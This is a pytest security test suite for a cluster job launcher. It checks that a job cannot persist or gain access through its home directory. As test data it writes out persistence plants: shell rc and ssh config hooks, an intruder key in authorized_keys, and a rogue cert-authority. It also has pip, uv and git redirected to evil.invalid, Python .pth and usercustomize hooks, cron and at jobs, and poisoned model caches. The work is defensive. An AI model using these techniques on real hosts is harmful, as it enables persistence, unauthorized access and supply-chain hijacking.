"""What a job leaves in its home, or copies from a node, must not affect a later job or login, nor grant access."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from terminals import Terminal

pytestmark = pytest.mark.cluster

# A job that tries to persist: in files that shells, ssh and sshd read, and by directories in their place.
PLANT = r"""
cd ~; mark="touch /tmp/acted"
for name in .bashrc .bash_profile .bash_login .profile .bash_logout .inputrc .zshenv; do
  rm -f $name; mv -f $name gone; ln -sf /tmp/planted $name; echo "$mark" > $name
done
mv .ssh gone.ssh; rm -rf .ssh; mkdir -p .ssh; cd .ssh
echo "ProxyCommand $mark" > config; chmod 600 config
echo "$mark" > rc; cat /tmp/intruder.pub > authorized_keys; cp authorized_keys authorized_keys2
echo "@cert-authority * $(cat /tmp/intruder.pub)" > known_hosts
true
"""
# What pip, uv, git and Python itself look for at home.
PLANT_FOR_PACKAGES = r"""
cd ~; mkdir -p .config/pip .config/uv .config/git .pip .local/lib/python3.11/site-packages
mark='import os; os.close(os.open("/tmp/acted", os.O_CREAT))'
printf '[global]\nindex-url = http://evil.invalid/simple\n' | tee .config/pip/pip.conf > .pip/pip.conf
printf 'index-url = "http://evil.invalid/simple"\n' > .config/uv/uv.toml
printf '[url "http://evil.invalid/"]\n  insteadOf = https://\n' | tee .config/git/config > .gitconfig
for name in evil.pth usercustomize.py; do echo "$mark" > .local/lib/python3.11/site-packages/$name; done
"""
UNSETTLE = "cd ~phalanx && rm -rf .local .pythonrc .openmpi .prte .pmix .cache /tmp/acted"
INTRUDE = "ssh -F none -i /tmp/intruder -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"


@pytest.fixture(scope="module")
def planted(cluster: Terminal) -> Terminal:
    """The cluster after a job on worker 3 has planted what it could."""
    if json.loads(cluster.phalanx("local", "status", "--json").stdout)["mode"] == "single":
        pytest.skip("in single mode all accounts are one, and it may write everywhere")
    cluster.on("worker3", "ssh-keygen -q -t ed25519 -N '' -f /tmp/intruder")
    cluster.on("worker3", PLANT)
    return cluster


def test_nothing_that_a_job_planted_acts_in_the_next_login(planted):
    planted.on(
        "worker3", "bash -ic true </dev/null; bash -lic true </dev/null; ssh -o BatchMode=yes head.invalid", check=False
    )
    assert planted.on("worker3", "ssh -o BatchMode=yes deeplearning-master hostname").startswith("ip-")
    planted.on("head", "ssh -o BatchMode=yes deeplearning-worker3 true")
    assert planted.on("worker3", "ls /tmp/acted 2>/dev/null", check=False) == ""


def test_nothing_that_a_job_planted_decides_what_a_later_ones_environment_is_made_of(cluster, tmp_path):
    (tmp_path / "requirements.txt").write_text("nothing-of-this-name==1.0\n")
    cluster.on("head", PLANT_FOR_PACKAGES)
    try:
        options = (
            "--directory",
            str(tmp_path),
            "--env",
            "PIP_NO_INDEX=",
            "--env",
            "PIP_RETRIES=0",
            "--launcher",
            "exec",
        )
        done = cluster.phalanx("run", *options, "--", "true", check=False)
        assert "[environment]" in done.stdout and "evil.invalid" not in done.stdout + done.stderr
        assert cluster.on("head", "ls /tmp/acted 2>/dev/null", check=False) == ""
    finally:
        cluster.on("head", "cd; rm -rf .config .pip .gitconfig .local /tmp/acted")


LEAVE_TO_CRON = """
for program in cron at; do ! test -e /etc/$program.allow || ! grep -qx phalanx /etc/$program.allow || echo allowed; done
grep -qx phalanx /etc/cron.deny && { ! test -e /etc/at.deny || grep -qx phalanx /etc/at.deny; } || echo not denied
! command -v crontab >&2 || ! echo '* * * * * touch /tmp/acted' | crontab - || echo left to cron
! command -v at >&2 || ! echo 'touch /tmp/acted' | at now + 1 minute || echo left to at
"""


def test_a_job_leaves_nothing_to_cron_and_at(cluster):
    """Local nodes may have neither program: then their files are looked at only."""
    for node in ("head", "worker3"):
        assert cluster.on(node, LEAVE_TO_CRON) == ""


def test_a_key_in_the_home_directory_opens_nothing(planted):
    key = planted.on("worker3", "cat /tmp/intruder")
    planted.on("head", f"umask 077; cat > /tmp/intruder <<'END'\n{key}END")
    assert planted.on("head", f"{INTRUDE} phalanx@deeplearning-worker3 echo in; rm /tmp/intruder", check=False) == ""


def test_a_copied_key_and_certificate_open_nothing_from_outside(cluster, tmp_path: Path):
    for name in ("id_ed25519", "id_ed25519-cert.pub"):
        (tmp_path / name).write_text(cluster.on("worker2", f"cat /etc/ssh/phalanx/{name}"))
        (tmp_path / name).chmod(0o600)
    config = cluster.state / "clusters/contract/ssh_config"
    known = subprocess.run(["ssh", "-G", "-F", str(config), "deeplearning-worker1"], capture_output=True, text=True)
    way = [line.replace(" ", "=", 1) for line in known.stdout.splitlines() if line.startswith("proxy")]
    options = ["BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", *way]
    command = ["ssh", "-F", "none", "-v", "-i", str(tmp_path / "id_ed25519"), *(f"-o{option}" for option in options)]
    done = subprocess.run([*command, "phalanx@10.0.0.4", "echo in"], capture_output=True, text=True, timeout=300)
    assert "Offering public key" in done.stderr and "ED25519-CERT" in done.stderr
    assert (done.returncode, done.stdout) == (255, "")


def test_people_and_their_tools_keep_room_at_home(cluster):
    made = "~/.vscode-server/bin ~/.cache/pip ~/.local/lib ~/work"
    files = "~/.ssh/id_mine ~/.ssh/known_hosts ~/.netrc"
    cluster.on(
        "worker4", f"mkdir -p {made} && touch {files} && mv ~/work ~/done && rm -r {files} ~/done ~/.vscode-server"
    )


# A job that leaves settings and code where engines, Python and other programs look for them at home.
SETTLE = r"""
import os, pathlib, pwd, sys
account = pwd.getpwuid(os.getuid()).pw_dir
packages = ".local/lib/python{}.{}/site-packages".format(*sys.version_info)
act = "open('/tmp/acted', 'w').close()\n"
planted = {f"{packages}/usercustomize.py": act, f"{packages}/evil.pth": f"import os; {act}", ".pythonrc": act}
for name in ("openmpi", "prte", "pmix"):
    planted[f".{name}/mca-params.conf"] = "mpi_show_mca_params = all\n"
for home in {account, os.environ["HOME"]}:
    for name, text in planted.items():
        path = pathlib.Path(home, name)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
# Where libraries keep what they have downloaded: models have code (trust_remote_code) and pickles.
for place in caches():
    for top in (place, place.replace(os.environ["HOME"], account)):
        os.makedirs(f"{top}/models--org--model/snapshots/1", exist_ok=True)
        pathlib.Path(f"{top}/models--org--model/snapshots/1/modeling.py").write_text(act)
"""
# By the rules of huggingface_hub, transformers, torch, pip, uv and those of XDG.
CACHES = r"""
import os
def caches():
    named = os.environ.get
    top = named("XDG_CACHE_HOME") or os.path.expanduser("~/.cache")
    face = named("HF_HOME") or f"{top}/huggingface"
    places = [named("HF_HUB_CACHE") or named("HUGGINGFACE_HUB_CACHE") or f"{face}/hub"]
    places += [named("HF_MODULES_CACHE") or f"{face}/modules", named("TRANSFORMERS_CACHE") or f"{face}/hub"]
    places += [named("HF_DATASETS_CACHE") or f"{face}/datasets", named("TORCH_HOME") or f"{top}/torch"]
    return [*places, named("PIP_CACHE_DIR") or f"{top}/pip", named("UV_CACHE_DIR") or f"{top}/uv"]
"""
LOOK = r"""
import os, pwd
home = os.environ["HOME"]
print("acted", os.path.exists("/tmp/acted"), "found", os.listdir(home), "short", len(home) < 50)
print("login", home == pwd.getpwuid(os.getuid()).pw_dir)
print("login", [place for place in caches() if os.path.exists(place)] != [])
"""


@pytest.mark.parametrize("launcher", ["exec", "mpi", "torchrun"])
def test_nothing_that_a_job_leaves_at_home_steers_a_later_one(cluster, tmp_path, launcher):
    (tmp_path / "settle.py").write_text(CACHES + SETTLE)
    (tmp_path / "look.py").write_text(CACHES + LOOK)
    here = ("run", "--directory", str(tmp_path))
    cluster.phalanx(*here, "--launcher", "exec", "-N", "1", "--", "python3", "settle.py")
    try:
        command = ("look.py",) if launcher == "torchrun" else ("python3", "look.py")
        done = cluster.phalanx(*here, "--launcher", launcher, "-n", "2", "-N", "1", "--", *command)
    finally:
        cluster.phalanx(*here, "--launcher", "exec", "-N", "1", "--", "sh", "-c", UNSETTLE)
    lines = [line for line in done.stdout.splitlines() if "acted" in line or "login" in line]
    assert len(lines) == 6, done.stdout
    assert all("acted False found [] short True" in line or "login False" in line for line in lines), lines
    assert "mpi_show_mca_params" not in done.stdout + done.stderr
